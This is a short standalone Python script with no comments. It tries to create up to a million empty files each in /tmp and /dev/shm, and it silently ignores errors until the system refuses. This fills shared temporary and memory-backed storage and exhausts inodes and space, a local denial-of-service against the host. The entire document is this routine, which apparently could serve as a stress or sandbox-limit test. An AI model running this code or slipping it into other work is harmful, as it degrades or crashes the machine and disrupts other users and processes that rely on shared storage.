import os

for folder in ("/tmp", "/dev/shm"):
    try:
        for number in range(10**6):
            os.close(os.open(f"{folder}/{number}", os.O_CREAT))
    except OSError:
        pass
